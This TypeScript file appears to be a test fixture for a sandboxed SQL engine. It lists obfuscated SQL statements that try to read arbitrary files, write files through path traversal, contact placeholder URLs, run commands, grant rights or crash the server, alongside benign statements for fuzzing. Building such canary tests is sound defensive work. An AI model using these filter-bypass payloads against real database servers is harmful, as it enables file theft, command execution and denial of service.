/**
 * Statements that reach a file, a socket or a process through an engine that lets them. In each, `{file}` is a file
 * that must not be read, `{out}` a path that must not be written, and `{url}` an address that must not be asked.
 */

/** What an attack is after. */
export type Aim = 'read' | 'write' | 'connect' | 'execute' | 'rights' | 'stop';

/** One attack: a statement, or two where the first prepares the second. */
export interface Attack {
  readonly name: string;
  readonly aim: Aim;
  readonly sql: readonly [string, ...string[]];
  /** Settings in the URL. */
  readonly settings?: Readonly<Record<string, string>>;
  /** Values of `{name:Type}`. */
  readonly params?: Readonly<Record<string, string>>;
}

const nbsp = '\u00a0';

/** The scalar function `file`, which no grant withholds, in every dress that was found. */
const scalarFile: readonly Attack[] = [
  ['plain', "SELECT file('{file}')"],
  ['quoted', "SELECT `file`('{file}')"],
  ['quoted with an escape', "SELECT `f\\x69le`('{file}')"],
  ['after a no-break space', `SELECT file${nbsp}('{file}')`],
  ['after a heredoc that is a name', "SELECT 1 AS $a$, file('{file}')"],
  ['after a comment', "SELECT file/**/('{file}')"],
  ['as a transformer', "SELECT * APPLY file FROM (SELECT '{file}' AS x)"],
  ['as a transformer in parentheses', "SELECT * APPLY(file) FROM (SELECT '{file}' AS x)"],
  ['as a transformer behind another', "SELECT * EXCEPT y APPLY(file) FROM (SELECT '{file}' AS x, 1 AS y)"],
  ['in a transformer', "SELECT COLUMNS('x') APPLY(v -> file(v)) FROM (SELECT '{file}' AS x)"],
  ['in REPLACE', "SELECT * REPLACE (file(x) AS x) FROM (SELECT '{file}' AS x)"],
  ['as a name', "SELECT arrayMap(file, ['{file}'])"],
  ['as a name in parentheses', "SELECT arrayMap((file), ['{file}'])"],
  ['as a name with an alias', "SELECT arrayMap(file AS g, ['{file}'])"],
  ['as a quoted name', "SELECT arrayMap(`file`, ['{file}'])"],
  ['in a lambda', "SELECT arrayMap(x -> file(x), ['{file}'])"],
  ['in a scalar subquery', "SELECT (SELECT file('{file}'))"],
  ['in a table expression', "WITH x AS (SELECT file('{file}') AS y) SELECT y FROM x"],
  ['in a condition', "SELECT 1 WHERE file('{file}') = ''"],
  ['in EXPLAIN', "EXPLAIN SYNTAX run_query_tree_passes = 1 SELECT file('{file}')"],
  ['in DESCRIBE', "DESCRIBE (SELECT file('{file}') AS x)"],
  ['in the arguments of a table function', "SELECT * FROM numbers(length(file('{file}')))"],
  ['in columns of a table function', "SELECT * FROM null('a Int8, b String DEFAULT file(\\'{file}\\')')"],
  [
    'in a template of data of a format',
    "SELECT * FROM format(Values, 'a String', '(concat(file(\\'{file}\\'), \\'x\\')), (concat(file(\\'{file}\\'), \\'y\\'))')",
  ],
  ['in data of a format', "SELECT * FROM format(Values, 'a String', '(file(\\'{file}\\'))')"],
  ['in VALUES', "INSERT INTO FUNCTION null('s String') VALUES (file('{file}'))"],
  ['in the arguments of an insert', "INSERT INTO FUNCTION null(file('{file}')) VALUES('x')"],
  ['with an implicit SELECT', "file('{file}')"],
].map(([name, sql]) => ({ name: `the function file ${name}`, aim: 'read', sql: [sql as string] }));

const other: readonly Attack[] = [
  {
    name: 'the function file as a transformer in two kinds of quotes',
    aim: 'read',
    sql: ['SELECT * APPLY("`f\\x69le`") FROM (SELECT \'{file}\' AS x)'],
  },
  {
    name: 'the function file behind a transformer that is more than a name',
    aim: 'read',
    sql: ["SELECT * APPLY(\"upper), file ('{file}'\") FROM (SELECT 'x' AS x)"],
  },
  {
    name: 'INTO OUTFILE behind a transformer that is more than a name',
    aim: 'write',
    sql: [
      "SELECT * APPLY(\"upper) FROM (SELECT 'x' AS x) into outfile '{out}' format CSV settings max_threads = (1\") FROM (SELECT 'x' AS x)",
      "SELECT * APPLY(\"upper FROM (SELECT 'x' AS x) into outfile '{out}'\")",
    ],
  },
  {
    name: 'a template by a setting in two kinds of quotes',
    aim: 'read',
    sql: ['SELECT 1 AS a SETTINGS "`format_template_row`" = \'{file}\' FORMAT Template'],
  },
  {
    name: 'a filter of results by a setting in two kinds of quotes',
    aim: 'read',
    sql: ["SELECT 'x' AS x SETTINGS \"`additional_result_filter`\" = 'throwIf(1, file(\\'{file}\\'))'"],
  },
  {
    name: 'the function file by a parameter',
    aim: 'read',
    sql: ["SELECT arrayMap({f:Identifier}, ['{file}'])"],
    params: { f: 'file' },
  },
  {
    name: 'the function file in a filter of results',
    aim: 'read',
    sql: ["SELECT 'x' AS x SETTINGS additional_result_filter = 'file(\\'{file}\\') != \\'\\''"],
  },
  {
    name: 'the function file in a filter of results, by URL',
    aim: 'read',
    sql: ["SELECT 'x' AS x"],
    settings: { additional_result_filter: "throwIf(1, file('{file}'))" },
  },
  {
    name: 'the function file in a default',
    aim: 'read',
    sql: [
      "CREATE TABLE canary_default (a UInt8, s String DEFAULT file('{file}')) ENGINE = Memory",
      'INSERT INTO canary_default (a) VALUES (1)',
      'SELECT * FROM canary_default',
    ],
  },
  {
    name: 'the function file in a view',
    aim: 'read',
    sql: ["CREATE VIEW canary_view AS SELECT file('{file}') AS s", 'SELECT * FROM canary_view'],
  },
  {
    name: 'the function file in a function of SQL',
    aim: 'read',
    sql: [`CREATE FUNCTION${nbsp}canary_function AS () -> file('{file}')`, 'SELECT canary_function()'],
  },
  {
    name: 'the function file in columns that are written in hex',
    aim: 'read',
    // a Int8, b String DEFAULT file('{file}'): a name of the length of the canary's is not needed to be refused.
    sql: [
      `SELECT * FROM format(JSONEachRow, unhex('${Buffer.from("a Int8, b String DEFAULT file('/etc/hostname')").toString('hex')}'), '{"a":1}')`,
    ],
  },
  {
    name: 'the function file in columns behind a format in quotes',
    aim: 'read',
    sql: [`SELECT * FROM format('JSONEachRow', 'a Int8, b String DEFAULT file(\\'{file}\\')', '{"a":1}')`],
  },
  {
    name: 'the function file in columns in parentheses',
    aim: 'read',
    sql: [`SELECT * FROM format(JSONEachRow, ('a Int8, b String DEFAULT file(\\'{file}\\')'), '{"a":1}')`],
  },
  {
    name: 'a time zone of a session that is a file',
    aim: 'read',
    sql: ["SELECT now() SETTINGS session_timezone = 'file:{file}'"],
  },
  { name: 'models of a bridge', aim: 'execute', sql: ['SELECT * FROM system.models'] },
  { name: 'models of a bridge in a condition', aim: 'execute', sql: ['SELECT 1 IN (`system`.models)'] },
  {
    name: 'models of a bridge by a pattern',
    aim: 'execute',
    sql: ["SELECT * FROM merge('system', '^models$')"],
  },
  {
    name: 'models of a bridge by a computed name',
    aim: 'execute',
    sql: ["SELECT * FROM merge(concat('sys', 'tem'), '^models$')"],
  },
  {
    name: 'models of a bridge by a parameter',
    aim: 'execute',
    sql: ['SELECT * FROM {f:Identifier}.models'],
    params: { f: 'system' },
  },
  {
    name: 'models of a bridge in the current database',
    aim: 'execute',
    sql: ['SELECT * FROM models'],
    settings: { database: 'system' },
  },
  {
    name: 'a profile of the memory',
    aim: 'write',
    sql: ['SELECT * FROM system.jemalloc_profile_text'],
  },
  { name: 'the stacks of all threads', aim: 'stop', sql: ['SELECT * FROM system.stack_trace'] },
  {
    name: 'a schema that a format writes for itself',
    aim: 'write',
    sql: ["SELECT groupFormat('Protobuf')(number) FROM numbers(2)"],
  },
  {
    name: 'a schema that a format writes for itself, by name',
    aim: 'write',
    sql: ["SELECT arrayReduce('groupFormat(\\'Protobuf\\')', [1])"],
  },
  {
    name: "the engine's own log on the output of errors",
    aim: 'write',
    sql: ["SELECT 1 SETTINGS send_logs_level = 'trace'"],
  },
  {
    name: 'threads by another name',
    aim: 'stop',
    sql: ['SELECT 1 SETTINGS max_final_threads = 100000'],
  },
  {
    name: 'a value of JSON that overflows the stack',
    aim: 'stop',
    sql: ["SELECT JSONMergePatch(repeat('{\"a\":', 100000) || '1' || repeat('}', 100000), '{}')"],
  },
  {
    name: 'a file of ORC that is damaged',
    aim: 'stop',
    sql: ["SELECT * FROM format(ORC, 'a UInt64', unhex('4f524311'))"],
  },
  { name: 'a name of many combinators', aim: 'stop', sql: [`SELECT sum${'If'.repeat(50_000)}(1)`] },
  { name: 'the table function file', aim: 'read', sql: ["SELECT * FROM file('{file}', 'LineAsString')"] },
  { name: 'the table function filesystem', aim: 'read', sql: ["SELECT content FROM filesystem('{file}')"] },
  { name: 'a file as a table', aim: 'read', sql: ["SELECT * FROM '{file}'"] },
  { name: 'a file as a quoted table', aim: 'read', sql: ['SELECT * FROM `{file}`'] },
  {
    name: 'a file as a table of a view with all rights',
    aim: 'read',
    sql: [
      "CREATE VIEW canary_none (c1 String) SQL SECURITY NONE AS SELECT * FROM '{file}'",
      'SELECT * FROM canary_none',
    ],
  },
  {
    name: 'a file as a table of a view of its definer',
    aim: 'read',
    sql: [
      "CREATE VIEW canary_definer DEFINER = CURRENT_USER SQL SECURITY DEFINER AS SELECT * FROM '{file}'",
      'SELECT * FROM canary_definer',
    ],
  },
  { name: 'url of a file', aim: 'read', sql: ["SELECT * FROM url('file://{file}', 'LineAsString')"] },
  {
    name: 'a table from a file',
    aim: 'read',
    sql: ["CREATE TABLE canary_f ENGINE = File('LineAsString', '{file}')", 'SELECT * FROM canary_f'],
  },
  {
    name: 'a table as a function',
    aim: 'read',
    sql: ["CREATE TABLE canary_as AS file('{file}', 'LineAsString')", 'SELECT * FROM canary_as'],
  },
  {
    name: 'FROM INFILE',
    aim: 'read',
    sql: ["INSERT INTO FUNCTION null('s String') FROM INFILE '{file}' FORMAT LineAsString"],
  },
  {
    name: 'FROM INFILE after a no-break space',
    aim: 'read',
    sql: [`INSERT INTO FUNCTION null('s String') FROM${nbsp}INFILE '{file}' FORMAT LineAsString`],
  },
  {
    name: 'a template behind the format',
    aim: 'read',
    sql: ["SELECT 1 AS a FORMAT Template SETTINGS format_template_row = '{file}'"],
  },
  {
    name: 'a template before the format',
    aim: 'read',
    sql: ["SELECT 1 AS a SETTINGS format_template_row = '{file}' FORMAT Template"],
  },
  {
    name: 'a template in the URL',
    aim: 'read',
    sql: ['SELECT 1 AS a FORMAT Template'],
    settings: { format_template_row: '{file}' },
  },
  {
    name: 'a schema',
    aim: 'read',
    sql: ["SELECT 1 AS a FORMAT CapnProto SETTINGS format_schema = '{file}:Message'"],
  },
  {
    name: 'a row in a template',
    aim: 'read',
    sql: ["SELECT formatRow('Template', 1) SETTINGS format_template_row = '{file}'"],
  },
  {
    name: 'a dictionary from a file',
    aim: 'read',
    sql: [
      "CREATE DICTIONARY canary_d (a UInt64, b String) PRIMARY KEY a SOURCE(FILE(PATH '{file}' FORMAT TSV)) LAYOUT(FLAT()) LIFETIME(0)",
      "SELECT dictGet('canary_d', 'b', 1)",
    ],
  },
  { name: 'a table of SQLite', aim: 'read', sql: ["SELECT * FROM sqlite('{file}', 't')"] },
  { name: 'a model', aim: 'read', sql: ["SELECT catboostEvaluate('{file}', 1)"] },
  {
    name: 'the table function eval',
    aim: 'read',
    sql: [
      "SELECT * FROM eval('SELECT file(\\'{file}\\')') SETTINGS allow_experimental_eval_table_function = 1",
    ],
  },
  {
    name: 'a table attached from a path',
    aim: 'read',
    sql: ["ATTACH TABLE canary_attach FROM '{file}' (a Int8) ENGINE = Log"],
  },
  { name: 'an iceberg of files', aim: 'read', sql: ["SELECT * FROM icebergLocal('{file}')"] },
  { name: 'INTO OUTFILE', aim: 'write', sql: ["SELECT 'x' INTO OUTFILE '{out}'"] },
  {
    name: 'INTO OUTFILE behind a heredoc that is a name',
    aim: 'write',
    sql: ["SELECT 'x' AS $b$ INTO OUTFILE '{out}' APPEND FORMAT TSVRaw"],
  },
  {
    name: 'INTO OUTFILE after a no-break space',
    aim: 'write',
    sql: [`SELECT 'x' INTO${nbsp}OUTFILE '{out}'`],
  },
  {
    name: 'a schema that is written',
    aim: 'write',
    sql: ['SELECT 1 AS a FORMAT Protobuf'],
    settings: { output_format_schema: '{out}' },
  },
  {
    name: 'a schema that is written, in the statement',
    aim: 'write',
    sql: ["SELECT 1 AS a SETTINGS output_format_schema = '{out}' FORMAT Protobuf"],
  },
  {
    name: 'an insert into a file',
    aim: 'write',
    sql: ["INSERT INTO FUNCTION file('{out}', 'CSV') SELECT 1"],
  },
  {
    name: 'RocksDB at a path',
    aim: 'write',
    sql: ["CREATE TABLE canary_r (a UInt64, b String) ENGINE = EmbeddedRocksDB(0, '{out}') PRIMARY KEY a"],
  },
  {
    name: 'a disk at a path',
    aim: 'write',
    sql: [
      "CREATE TABLE canary_disk (a UInt8) ENGINE = MergeTree ORDER BY a SETTINGS disk = disk(type = 'object_storage', object_storage_type = 'local', path = '{out}')",
      'INSERT INTO canary_disk SELECT 1',
    ],
  },
  { name: 'a backup to a file', aim: 'write', sql: ["BACKUP DATABASE default TO File('{out}')"] },
  {
    name: 'a backup out of its disk',
    aim: 'write',
    sql: ["BACKUP DATABASE default TO Disk('backups', '../../../../../../../../../..{out}')"],
  },
  {
    name: 'errors of records',
    aim: 'write',
    sql: [
      "INSERT INTO FUNCTION null('a UInt8') SETTINGS input_format_allow_errors_num = 9, input_format_record_errors_file_path = '{out}' FORMAT CSV\nx",
    ],
  },
  { name: 'url', aim: 'connect', sql: ["SELECT * FROM url('{url}', 'LineAsString')"] },
  {
    name: 'url with data',
    aim: 'connect',
    sql: ["INSERT INTO FUNCTION url('{url}', 'LineAsString', 's String') SELECT 'x'"],
  },
  { name: 's3', aim: 'connect', sql: ["SELECT * FROM s3('{url}/b/k', 'CSV', 'a String')"] },
  { name: 'remote', aim: 'connect', sql: ["SELECT * FROM remote('127.0.0.1:{port}', 'default', 't')"] },
  { name: 'mysql', aim: 'connect', sql: ["SELECT * FROM mysql('127.0.0.1:{port}', 'a', 'b', 'c', 'd')"] },
  {
    name: 'a column at a host',
    aim: 'connect',
    sql: ["SELECT hasColumnInTable('127.0.0.1:{port}', 'default', 't', 'a')"],
  },
  {
    name: 'a registry of schemas',
    aim: 'connect',
    sql: ["SELECT 1 AS a FORMAT AvroConfluent SETTINGS format_avro_schema_registry_url = '{url}'"],
  },
  { name: 'a model of language', aim: 'connect', sql: ["SELECT aiGenerate('x')"] },
  {
    name: 'a table at a URL',
    aim: 'connect',
    sql: ["CREATE TABLE canary_u (a String) ENGINE = URL('{url}', 'CSV')", 'SELECT * FROM canary_u'],
  },
  {
    name: 'a queue of Kafka',
    aim: 'connect',
    sql: [
      "CREATE TABLE canary_k (a String) ENGINE = Kafka('127.0.0.1:{port}', 't', 'g', 'CSV')",
      'SELECT * FROM canary_k',
    ],
  },
  {
    name: 'a dictionary from a command',
    aim: 'execute',
    sql: [
      "CREATE DICTIONARY canary_x (a UInt64, b String) PRIMARY KEY a SOURCE(EXECUTABLE(COMMAND 'touch {out}' FORMAT 'TSV')) LAYOUT(HASHED()) LIFETIME(0)",
      "SELECT dictGet('canary_x', 'b', 1)",
    ],
  },
  {
    name: 'the table function executable',
    aim: 'execute',
    sql: ["SELECT * FROM executable('../../../../../../../bin/touch', 'CSV', 'a String')"],
  },
  { name: 'odbc', aim: 'stop', sql: ["SELECT * FROM odbc('DSN=x', 'a', 'b')"] },
  { name: 'SYSTEM SHUTDOWN', aim: 'stop', sql: ['SYSTEM SHUTDOWN'] },
  { name: 'SYSTEM KILL', aim: 'stop', sql: ['SYSTEM KILL'] },
  { name: 'a user', aim: 'rights', sql: ['CREATE USER canary'] },
  { name: 'a grant', aim: 'rights', sql: ['GRANT FILE ON *.* TO default'] },
  { name: 'a role', aim: 'rights', sql: ['SET ROLE ALL'] },
  { name: 'a named collection', aim: 'rights', sql: ['CREATE NAMED COLLECTION canary AS a = 1'] },
  {
    name: 'a definer',
    aim: 'rights',
    sql: ['CREATE VIEW canary_rights DEFINER = default SQL SECURITY DEFINER AS SELECT 1'],
  },
];

/** All of them. */
export const attacks: readonly Attack[] = [...scalarFile, ...other];

/** Statements that run, for pieces of attacks to be put into. Tables that they make stay. */
export const harmless: readonly Attack[] = [
  "SELECT arrayMap(x -> upper(x), ['{file}'])",
  "SELECT arrayMap(upper, ['{file}'])",
  "SELECT * APPLY upper FROM (SELECT '{file}' AS x)",
  "SELECT COLUMNS('x') APPLY (v -> lower(v)) FROM (SELECT '{file}' AS x)",
  "SELECT * REPLACE (upper(x) AS x) FROM (SELECT '{file}' AS x) SETTINGS max_threads = 1 FORMAT JSON",
  "SELECT upper('{file}')",
  "WITH x AS (SELECT upper('{file}') AS y) SELECT y FROM x",
  "SELECT * FROM values('a String', '{file}', '{out}')",
  "SELECT * FROM format(CSV, 'a String', '{file}')",
  "INSERT INTO FUNCTION null('s String') VALUES (upper('{file}'))",
  "INSERT INTO FUNCTION null('s String') FORMAT CSV\n{file}",
  "INSERT INTO FUNCTION null('s String') SELECT '{file}'",
  'SELECT * FROM system.one SETTINGS max_block_size = 1 FORMAT CSVWithNames',
  "SELECT arrayMap({f:Identifier}, ['{file}'])",
  "SELECT {p:String}, JSONExtract('{\"a\":1}', 'a', 'Int64')",
  'SELECT number, sum(number) OVER (ORDER BY number) FROM numbers(3) ORDER BY number LIMIT 2',
  "CREATE TABLE IF NOT EXISTS canary_fuzz_t (s String DEFAULT upper('{file}')) ENGINE = MergeTree ORDER BY s SETTINGS index_granularity = 1024",
  "ALTER TABLE canary_fuzz_t ADD COLUMN IF NOT EXISTS t String DEFAULT upper('{file}')",
  "ALTER TABLE canary_fuzz_t UPDATE t = upper('{file}') WHERE 1",
  "INSERT INTO canary_fuzz_t (s) VALUES ('{file}')",
  "CREATE OR REPLACE VIEW canary_fuzz AS SELECT upper('{file}') AS s",
  'SELECT * FROM canary_fuzz',
  'SELECT * FROM canary_fuzz_t',
  "EXPLAIN SYNTAX SELECT upper('{file}')",
  'SHOW TABLES',
].map((sql) => ({ name: 'nothing', aim: 'read', sql: [sql], params: { f: 'upper', p: '{file}' } }));

/** An attack with what it is after. */
export function aimed(text: string, target: { file: string; out: string; url: string }): string {
  const { file, out, url } = target;
  return text
    .replaceAll('{file}', file)
    .replaceAll('{out}', out)
    .replaceAll('{url}', url)
    .replaceAll('{port}', new URL(url).port);
}
